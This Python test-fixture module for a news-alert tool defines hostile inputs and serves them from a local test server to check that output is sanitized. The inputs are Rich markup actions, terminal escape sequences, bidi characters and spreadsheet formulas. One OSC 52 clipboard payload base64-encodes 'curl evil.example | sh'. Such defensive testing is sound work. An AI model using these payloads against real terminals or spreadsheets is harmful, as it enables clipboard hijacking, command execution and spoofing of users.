"""Hostile text: every payload a feed, a page, a server or a file has been seen to aim at desk.

One list for every sink's test (core, CLI, exports, TUI): markup that Rich or
Textual would act on, terminal escape sequences (7- and 8-bit), bidi tricks,
invisible characters, spreadsheet formulas and sheer size. `unsafe_in`
names what a string still holds that no output may carry.
"""

from __future__ import annotations

import json
import re
from collections.abc import Iterator
from contextlib import contextmanager
from datetime import UTC, datetime, timedelta
from http.server import BaseHTTPRequestHandler
from pathlib import Path

from desk.core.models import Alert, Article, FeedState, Hit, SeenItem, Severity
from desk.core.store.tinystore import TinyStore
from tests.served import serving

MARKUP = [
    "[/]",
    "x [@click=app.quit]click me[/]",
    "[@click=app.screenshot('pwned.svg','/tmp')]shot[/]",
    "[link=file:///etc/passwd]passwd[/link]",
    "[bold red]loud[/bold red] [/i] [",
    "[@click=app.bell]ring[/] ]]]",
]
ESCAPES = [
    "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x1b\\",  # OSC 52 clipboard, ended by ST
    "\x1b]52;c;SGVsbG8=\x07",  # OSC 52 ended by BEL
    "\x1b]8;;https://evil.example/\x1b\\link\x1b]8;;\x1b\\",  # OSC 8 hyperlink
    "\x1b]0;pwned window title\x07",  # OSC 0 window title
    "\x1b[6n",  # CSI: report the cursor position (the terminal answers on stdin)
    "\x1b[2J\x1b[H",  # clear the screen, cursor home
    "\x1b[31;1mred\x1b[0m",  # SGR colours
    "\x1bP+q544e\x1b\\",  # DCS request
    "\x1b_apc payload\x1b\\",  # APC
    "\x1bc",  # full reset
    "\x9b2J",  # 8-bit CSI
    "\x9b31mcrimson\x9b0m",  # 8-bit SGR
    "\x9d0;8-bit title\x9c",  # 8-bit OSC ended by 8-bit ST
    "&#27;]2;ZW50aXR5&#7;",  # an escape spelled as entities (literal text until decoded)
    "\x1b]52;c;dW50ZXJtaW5hdGVk",  # unterminated OSC
]
CONTROLS = ["bell\x07", "back\x08space", "nul\x00", "del\x7f", "c1\x85\x90\x9f", "cr\rover"]
BIDI = ["\u202eevil\u202c", "\u2066iso\u2069", "\u200fmark", "\u061calm"]
INVISIBLE = ["zero\u200bwidth", "\ufeffbom", "tag\U000e0041\U000e0042", "word\u2060joiner"]
FORMULAS = ['=HYPERLINK("https://evil.example","click")', "+1+1", "-2+3", "@SUM(A1)", "\t=1"]

PAYLOADS = MARKUP + ESCAPES + CONTROLS + BIDI + INVISIBLE + FORMULAS
"""Every payload; each is also used inside a longer string by the tests."""

ALL_IN_ONE = " ".join(PAYLOADS)
"""One title carrying every payload at once."""

HUGE_LINE = "[/]\x1b]52;c;" + "A" * 1_000_000 + "\x07 end"
"""A 1 MB single-line title: an unterminated-looking clipboard write of a megabyte."""

# What no output may hold: C0 but newline and tab, DEL, C1, bidi controls.
_FORBIDDEN = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]")


def unsafe_in(text: str) -> list[str]:
    """The forbidden characters `text` holds, as escapes a failure message can show."""
    return sorted({repr(c) for c in _FORBIDDEN.findall(text)})


def unsafe_bytes_in(data: bytes) -> list[str]:
    """The same check on raw output bytes (UTF-8)."""
    return unsafe_in(data.decode("utf-8", "replace"))


def payload_residue(text: str) -> list[str]:
    """Pieces of escape payloads that must not survive cleaning (the ESC went, the rest stayed)."""
    pieces = [
        "]52;",
        "Y3VybCBl",
        "SGVsbG8",
        "dW50ZXJt",
        "+q544e",  # not "544e" alone: a random hex id can hold that
        "[6n",
        "[2J",
        "[31;1m",
        "window title",
        "2J",  # an 8-bit CSI's payload: 0x9B went, or became a look-alike, the rest stayed
        "31m",
        "0;8-bit",
    ]
    return [piece for piece in pieces if piece in text]


def write_old_store(data_dir: Path, feed_url: str = "http://127.0.0.1:9/feed.xml") -> None:
    """A store as a desk from before the text boundary wrote it: payloads everywhere, raw.

    The models are built directly, so nothing is cleaned on the way in; the
    store writes what it is given. Every text field holds every payload.
    """
    now = datetime.now(UTC)
    hit = Hit("troop-deployment", f"troops {ALL_IN_ONE}", f"troops\x1b[2J{BIDI[0]}", 0, 10, 99.0)
    alerts = [
        Alert(
            id=f"old{n}",
            title=f"{payload} troops deployed",
            url=f"https://news.example/{n}\x1b]8;;x\x07",
            sources=(f"Wire {payload}",),
            published=now,
            watchlists=("troop-deployment",),
            severity=Severity.HIGH,
            score=99.0,
            hits=(hit,),
            created=now - timedelta(minutes=n),
            article_key=f"item{n}",
            note=payload,
        )
        for n, payload in enumerate(PAYLOADS)
    ]
    body = f"troops deployed\n\n{ALL_IN_ONE}\n\nThe end."
    articles = {
        f"item{n}": Article(url=alert.url, title=alert.title, text=body, byline=ALL_IN_ONE)
        for n, alert in enumerate(alerts)
    }
    seen = [
        SeenItem(f"item{n}", feed_url, alert.url, "fp", now, alert.id, item_id=f"g{n}")
        for n, alert in enumerate(alerts)
    ]
    state = FeedState(url=feed_url, title=ALL_IN_ONE, error=f"HTTP 404 {ALL_IN_ONE}", failures=3)
    store = TinyStore(data_dir)
    try:
        store.commit_cycle(seen, articles, alerts, [state])
    finally:
        store.close()
    alerts_file = data_dir / "alerts.json"  # an older desk wrote no mark of safe text
    content = json.loads(alerts_file.read_text())
    del content["format"]
    alerts_file.write_text(json.dumps(content))


STORY = (
    "North Korea has deployed thousands of troops to the border region, officials said. "
    "The soldiers were sent by train over several nights and will stay for months."
)
"""A paragraph every shipped troop-deployment watchlist fires on."""


WIDE_LINE = f"{MARKUP[1]} \x9b2J {ESCAPES[0]} " + "troops " * 150_000
"""A 1 MB single-line title that a terminal would show: it must be cut, not only cleaned."""


def huge_feeds(base: str) -> dict[str, tuple[str, str]]:
    """Path -> (body, type) for tests.served: an RSS feed (feedparser reads it: it holds raw
    escapes) and a JSON Feed, with 1 MB single-line titles; their items link to missing pages."""
    title = HUGE_LINE.replace("&", "&amp;").replace("<", "&lt;")
    rss = (
        f"<?xml version='1.0' encoding='utf-8'?><rss version='2.0'><channel><title>{title}</title>"
        f"<item><title>{title} troops</title><link>{base}/gone/1</link><guid>h1</guid>"
        f"<description>{STORY}</description></item></channel></rss>"
    )
    item = {"id": "h2", "url": f"{base}/gone/2", "title": WIDE_LINE, "summary": STORY}
    feed = {"version": "https://jsonfeed.org/version/1.1", "title": WIDE_LINE, "items": [item]}
    return {
        "/huge.xml": (rss, "application/rss+xml"),
        "/huge.json": (json.dumps(feed), "application/feed+json"),
    }


class HostileSite:
    """Feeds and pages full of payloads on 127.0.0.1; set `failing` and the feeds answer 404
    with a hostile reason phrase and error page."""

    def __init__(self) -> None:
        self.base = ""
        self.failing = False

    @property
    def feed_urls(self) -> list[str]:
        """A JSON Feed (payloads as JSON escapes) and an RSS feed (payloads as raw bytes)."""
        return [f"{self.base}/feed.json", f"{self.base}/feed.xml"]

    def json_feed(self) -> bytes:
        items = [
            {
                "id": f"j{n}",
                "url": f"{self.base}/a/{n}.html",
                "title": headline(payload),
                "summary": f"{STORY} {payload}",
                "authors": [{"name": payload}],
            }
            for n, payload in enumerate(PAYLOADS)
        ]
        items.append(
            {
                "id": "gone",
                "url": f"{self.base}/missing.html",
                "title": f"{ALL_IN_ONE} troops deployed",
                "summary": f"{ALL_IN_ONE} {STORY}",
            }
        )
        feed = {"version": "https://jsonfeed.org/version/1.1", "title": ALL_IN_ONE, "items": items}
        return json.dumps(feed).encode()

    def rss_feed(self) -> bytes:
        title = ALL_IN_ONE.replace("&", "&amp;").replace("<", "&lt;")
        return (
            "<?xml version='1.0' encoding='utf-8'?><rss version='2.0'><channel>"
            f"<title>{title}</title><item><title>{title} soldiers deployed</title>"
            f"<link>{self.base}/a/rss.html</link><guid>r1</guid>"
            f"<description>{STORY} {title}</description></item></channel></rss>"
        ).encode()

    def page(self, number: int = 0) -> bytes:
        """Article page `number`: item `number`'s headline, every payload, and a text of its own.

        Its own text keeps the pages from reading as one story told by many feeds, and its own
        troop count keeps the firing paragraph from being a line that every page of the site
        repeats (desk learns such a line as the site's furniture from the fifth page on).
        """
        own = " ".join(f"dispatch{number}x{word}" for word in range(300))  # its own story
        story = STORY.replace("thousands of troops", f"{1200 + number} troops")
        paragraphs = f"<p>{story}</p><p>{ALL_IN_ONE}</p><p>{own}.</p>"
        title = headline(PAYLOADS[number % len(PAYLOADS)])
        return (
            f"<html><head><title>{title}</title></head><body><article>"
            f"<h1>{title} {ESCAPES[0]}</h1>{paragraphs}"
            "</article></body></html>"
        ).encode()


def headline(payload: str) -> str:
    """An item's title: the payload first (a CSV formula must start its cell), then the story."""
    return f"{payload} troops deployed to the border"


REASON = f"[/] [@click=app.quit]quit[/] {ESCAPES[0]} {ESCAPES[3]} \x9b2J \x9b31mred\x9b0m"
"""A reason phrase h11 lets through: every byte but NUL and whitespace is allowed."""


@contextmanager
def hostile_site() -> Iterator[HostileSite]:
    """A HostileSite served on 127.0.0.1 until the block ends."""
    site = HostileSite()

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            if self.path.startswith("/feed") and site.failing:
                self._send(404, f"<h1>{ALL_IN_ONE}</h1>".encode(), "text/html", REASON)
            elif self.path == "/feed.json":
                self._send(200, site.json_feed(), "application/feed+json")
            elif self.path == "/feed.xml":
                self._send(200, site.rss_feed(), "application/rss+xml")
            elif self.path.startswith("/a/"):
                number = int("".join(filter(str.isdigit, self.path)) or 0)
                self._send(200, site.page(number), "text/html; charset=utf-8")
            else:
                self._send(404, b"not here", "text/plain", REASON)

        def _send(self, status: int, body: bytes, kind: str, reason: str | None = None) -> None:
            self.send_response(status, reason)
            self.send_header("Content-Type", kind)
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

        def log_message(self, format: str, *args: object) -> None:
            """Quiet."""

    with serving(Handler) as base:
        site.base = base
        yield site


FEEDS_YAML = """\
feeds:
  - url: {json}
    name: "[@click=app.quit]click me[/] \\e]52;c;SGVsbG8=\\a \\e[2J \\u202eevil"
  - url: {rss}
"""
"""feeds.yaml naming the hostile feeds; the first feed's name is hostile too."""
